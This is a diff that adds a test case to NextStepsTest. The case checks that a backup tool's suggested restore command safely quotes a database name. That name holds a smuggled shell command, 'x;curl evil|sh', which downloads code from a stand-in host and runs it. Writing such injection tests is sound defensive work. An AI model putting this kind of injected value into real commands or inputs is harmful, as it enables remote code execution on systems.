@@ -26,6 +26,13 @@ class NextStepsTest {
         Arguments.of(
             """
             kind: BackupPolicy
+            spec: {source: {postgres: {databases: {names: ["x;curl evil|sh"]}}}}
+            status: {recoveryPoints: [{verdict: Verified}]}
+            """,
+            "salvor restore a --to-database 'x;curl evil|sh_copy' --wait -n shop"),
+        Arguments.of(
+            """
+            kind: BackupPolicy
             spec: {source: {volume: {path: /srv/shop}}}
             status: {recoveryPoints: [{id: x}]}
             """,
